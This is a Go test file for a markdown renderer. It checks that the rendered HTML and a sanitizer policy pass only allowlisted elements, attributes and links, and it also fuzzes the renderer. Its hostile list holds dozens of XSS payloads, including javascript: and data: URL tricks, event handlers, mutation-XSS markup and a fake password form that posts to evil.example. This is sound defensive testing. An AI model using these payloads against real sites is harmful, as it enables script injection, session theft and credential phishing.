package markdown

import (
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// hostile texts try to bring a script, a style, a form or a foreign resource into the page.
var hostile = []string{
	`<script>alert(1)</script>`,
	`</p></section><script src=//evil.example/x.js></script>`,
	"text\n\n<script>\nalert(1)\n</script>\n\ntext",
	`<img src=x onerror=alert(1)>`,
	`<svg/onload=alert(1)>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>">`,
	`<object data="data:text/html,<script>alert(1)</script>">`,
	`<a href="javascript:alert(1)">x</a>`,
	`<form action=//evil.example><input name=password><button>Entrar</button></form>`,
	`<base href="//evil.example/">`,
	`<meta http-equiv="refresh" content="0;url=//evil.example">`,
	`<link rel=stylesheet href=//evil.example/x.css>`,
	`<style>body{display:none}</style>`,
	`<p style="position:fixed;inset:0">x</p>`,
	`<!-- --><script>alert(1)</script>`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<?php echo 1 ?><script>alert(1)</script>`,
	"[x](javascript:alert(1))",
	"[x](JaVaScRiPt:alert(1))",
	"[x](&#106;avascript:alert(1))",
	"[x](&#x6A;&#x61;vascript&colon;alert(1))",
	"[x](java\tscript:alert(1))",
	"[x](<java\nscript:alert(1)>)",
	"[x](\x01javascript:alert(1))",
	"[x](%6Aavascript:alert(1))",
	"[x](vbscript:msgbox(1))",
	"[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
	"[x](file:///etc/passwd)",
	"[x](ht^tp:javascript)",
	"[x](https://a.example \"t\\\" onmouseover=alert(1) \")",
	"[x](https://a.example/\"onmouseover=\"alert(1))",
	"[x][1]\n\n[1]: javascript:alert(1)",
	"[x][1]\n\n[1]: <javascript:alert(1)> 'onclick=alert(1)'",
	"<javascript:alert(1)>",
	"<data:text/html,alert(1)>",
	"<mailto:a@a.example\" onclick=alert(1)>",
	"![x](javascript:alert(1))",
	"![x](data:image/svg+xml,<svg/onload=alert(1)>)",
	"![<script>alert(1)</script>](https://a.example/x.png)",
	"![x\" onerror=\"alert(1)](https://a.example/x.png)",
	"# <script>alert(1)</script> {#id onclick=alert(1)}",
	"```\" onclick=alert(1)\n<script>alert(1)</script>\n```",
	"`<script>alert(1)</script>`",
	"| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
	"\\<script>alert(1)\\</script>",
	"&lt;script&gt;alert(1)&lt;/script&gt;",
	"&#60;script&#62;alert(1)&#60;/script&#62;",
	"*<b onmouseover=alert(1)>x</b>*",
	strings.Repeat("> ", 400) + "<script>alert(1)</script>",
	strings.Repeat("[", 400) + "x" + strings.Repeat("](javascript:alert(1))", 400),
	"\x00<script>alert(1)</script>",
	"\xff\xfe<script>alert(1)</script>",
}

// elements and their attributes are all that ever leaves the package.
var elements = map[string][]string{
	"p": nil, "br": nil, "hr": nil, "h2": nil, "h3": nil, "h4": nil, "h5": nil, "h6": nil,
	"ul": nil, "ol": {"start"}, "li": nil, "blockquote": nil, "strong": nil, "em": nil, "del": nil,
	"code": nil, "pre": nil, "a": {"href", "rel"}, "div": {"class", "role", "aria-label", "tabindex"},
	"table": {"class"}, "thead": nil, "tbody": nil, "tr": nil, "th": nil, "td": nil,
}

// harmless fails a test when HTML holds anything but the elements, attributes and addresses expected.
func harmless(t *testing.T, source, rendered string) {
	t.Helper()
	for z := html.NewTokenizer(strings.NewReader(rendered)); ; {
		kind := z.Next()
		if kind == html.ErrorToken {
			return
		}
		token := z.Token()
		if kind == html.CommentToken || kind == html.DoctypeToken {
			t.Errorf("%q gives a %s: %s", source, kind, rendered)
		}
		if kind != html.StartTagToken && kind != html.SelfClosingTagToken && kind != html.EndTagToken {
			continue
		}
		allowed, known := elements[token.Data]
		if !known {
			t.Errorf("%q gives <%s>: %s", source, token.Data, rendered)
		}
		for _, a := range token.Attr {
			if !slices.Contains(allowed, a.Key) {
				t.Errorf("%q gives <%s %s=%q>: %s", source, token.Data, a.Key, a.Val, rendered)
			}
			if a.Key == "href" && !safe([]byte(a.Val)) {
				t.Errorf("%q links to %q", source, a.Val)
			}
		}
	}
}

func TestHostileTexts(t *testing.T) {
	for _, source := range hostile {
		for _, around := range []string{source, "# " + source, "- " + source, "> " + source, "*" + source + "*", "antes " + source + " después"} {
			rendered, err := HTML(around, 3)
			if err != nil {
				t.Fatalf("%q: %v", around, err)
			}
			harmless(t, around, rendered)
		}
	}
}

func TestWhatLooksLikeATagIsText(t *testing.T) {
	for source, want := range map[string]string{
		"a <script>alert(1)</script> b": "<p>a &lt;script&gt;alert(1)&lt;/script&gt; b</p>\n",
		"<div>\nhola\n</div>":           "<p>&lt;div&gt;\nhola\n&lt;/div&gt;</p>\n",
		"si x<y y z>w":                  "<p>si x&lt;y y z&gt;w</p>\n",
		"[x](javascript:alert(1))":      "<p>x</p>\n",
		"<javascript:alert(1)>":         "<p>javascript:alert(1)</p>\n",
	} {
		got, err := HTML(source, 3)
		if err != nil {
			t.Fatal(err)
		}
		if got != want {
			t.Errorf("HTML(%q) = %q, want %q", source, got, want)
		}
	}
}

// The second door holds by itself, whatever came through the first.
func TestPolicyStandsAlone(t *testing.T) {
	for _, source := range hostile {
		harmless(t, source, policy.Sanitize(source))
	}
}

func FuzzHTML(f *testing.F) {
	for _, source := range hostile {
		f.Add(source)
	}
	f.Fuzz(func(t *testing.T, source string) {
		rendered, err := HTML(source, 3)
		if err != nil {
			t.Fatal(err)
		}
		harmless(t, source, rendered)
	})
}
